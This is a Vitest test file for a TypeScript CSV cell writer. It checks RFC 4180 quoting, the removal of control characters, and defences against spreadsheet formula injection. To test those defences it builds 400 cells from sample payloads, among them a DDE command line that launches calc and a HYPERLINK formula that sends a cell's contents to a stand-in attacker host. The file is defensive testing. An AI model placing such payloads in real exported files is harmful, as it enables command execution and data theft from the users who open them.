import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv.ts";

describe("csvCell", () => {
  it.each([
    { text: "核桃仁", cell: "核桃仁" },
    { text: "/", cell: "/" },
    { text: "a,b", cell: '"a,b"' },
    { text: '5" 屏', cell: '"5"" 屏"' },
    { text: "两\n行", cell: '"两\n行"' },
    { text: "回\r车", cell: '"回\r车"' },
    { text: "", cell: "" },
  ])("writes $text by RFC 4180", ({ text, cell }) => {
    expect(csvCell(text)).toBe(cell);
  });

  it("drops control characters, also before a formula", () => {
    expect(csvCell("甲\u0000乙\u0007\u001B丙\u007F")).toBe("甲乙丙");
    expect(csvCell("\u0001=1+1")).toBe("'=1+1");
    expect(csvCell("一\t二\n三")).toBe('"一\t二\n三"');
  });

  it.each(["=1+1", "+86", "-18℃", "@SUM(A1)", "\tx"])("keeps %j from being run as a formula", (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it("keeps every formula of a grammar from being run, whatever stands before it and around it", () => {
    const before = ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\ufeff", "\u200b", " \t "];
    const signs = [..."=+-@\uff1d\uff0b\uff0d\uff20"];
    const calls = [
      "1+1",
      "cmd|' /C calc'!A0",
      'HYPERLINK("https://evil.example?x="&A1,"字")',
      "IMPORTXML(A1;B1)",
      "x,y\n=1",
    ];
    const cells = before.flatMap((space) => signs.flatMap((sign) => calls.map((call) => space + sign + call)));
    expect(cells).toHaveLength(400);
    // Reads a cell as a spreadsheet does: without its quotes, and complete.
    const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    expect(cells.filter((text) => read(csvCell(text)) !== `'${text}`)).toEqual([]);
    expect(cells.map(csvCell).filter((cell) => /[",\r\n]/.test(cell) && !/^"(?:[^"]|"")*"$/.test(cell))).toEqual([]);
  });

  it("does both where both are needed", () => {
    expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvCell("\rx")).toBe(`"'\rx"`);
  });

  it("leaves alone what only holds such a sign further on", () => {
    expect(csvCell("≤0.5")).toBe("≤0.5");
    expect(csvCell("1=2")).toBe("1=2");
  });
});

describe("csvLine", () => {
  it("ends a record with CR LF", () => {
    expect(csvLine(["a", "b,c", ""])).toBe('a,"b,c",\r\n');
  });
});
